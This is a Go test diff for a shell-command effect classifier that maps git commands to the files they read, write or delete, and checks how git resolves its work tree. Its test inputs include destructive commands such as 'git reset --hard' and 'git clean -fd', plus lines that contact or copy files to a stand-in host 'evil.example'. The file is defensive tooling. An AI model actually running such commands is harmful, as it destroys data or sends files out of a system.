@@ -1,6 +1,8 @@
 package effects_test
 
 import (
+	"os"
+	"path/filepath"
 	"slices"
 	"strings"
 	"testing"
@@ -194,6 +196,30 @@ func TestFilesAndHostsAreSeenOrUnknown(t *testing.T) {
 		"git push":                                             "host.connect:",
 		"git remote update":                                    "host.connect:",
 		"git archive --remote=h x":                             "host.connect:",
+		"git add a":                                            "file.read:/work/a",
+		"git add -A":                                           "file.read:/work",
+		"git add ':(top)a'":                                    "file.read:/work",
+		"git add '*.key'":                                      "file.read:/work",
+		"git add --pathspec-from-file=x a":                     "file.read:/work",
+		"git rm a":                                             "file.delete:/work/a",
+		"git rm --cached --pathspec-from-file x":               "file.delete:/work",
+		"git mv a b":                                           "file.write:/work/b",
+		"git clean -fd -e keep":                                "file.delete:/work",
+		"git checkout main":                                    "file.delete:/work",
+		"git checkout -b x":                                    "file.write:/work",
+		"git restore a":                                        "file.write:/work",
+		"git reset --hard":                                     "file.delete:/work",
+		"git diff":                                             "file.read:/work",
+		"git pull":                                             "file.write:/work",
+		"git init":                                             "file.write:/work/.",
+		"git clone https://h/x y":                              "file.write:/work/y",
+		"git -C /x clean -f":                                   "file.delete:/x",
+		"git -C x -C y clean -f":                               "file.delete:/work/x/y",
+		"git -C $X clean -f":                                   "file.delete:",
+		"git -C ~bob clean -f":                                 "file.delete:",
+		"git --work-tree /x clean -f":                          "file.delete:/x",
+		"git --work-tree=/x clean -f":                          "file.delete:/x",
+		"cd $X; git clean -f":                                  "file.delete:",
 		"sftp evil.example":                                    "host:",
 		"ssh -W evil.example:1 h x":                            "host.connect:",
 		"tar cf evil.example:x y":                              "host.connect:",
@@ -255,6 +281,27 @@ nc -zv h.example 80
 ssh h uptime`), "\n") {
 		if got := effects.ReadShell(text, "/work"); slices.Contains(got, toolroom.Effect{Kind: toolroom.EffectCommand}) {
 			t.Errorf("%q is read as %q", text, shellLines(got))
+		}
+	}
+}
+
+// A command of git that is started in a folder of a repository uses the whole work tree.
+func TestGitUsesTheWholeWorkTree(t *testing.T) {
+	t.Parallel()
+	top, err := filepath.EvalSymlinks(t.TempDir())
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, dir := range []string{".git", "a/b"} {
+		if err := os.MkdirAll(filepath.Join(top, dir), 0o700); err != nil {
+			t.Fatal(err)
+		}
+	}
+	for text, want := range map[string]string{
+		"git clean -f": "file.delete:" + top, "git -C b commit -am x": "file.read:" + top, "git rm x": "file.delete:" + top + "/a/x",
+	} {
+		if got := shellLines(effects.ReadShell(text, top+"/a")); !slices.Contains(got, want) {
+			t.Errorf("%q is read as %q, want %q among them", text, got, want)
 		}
 	}
 }
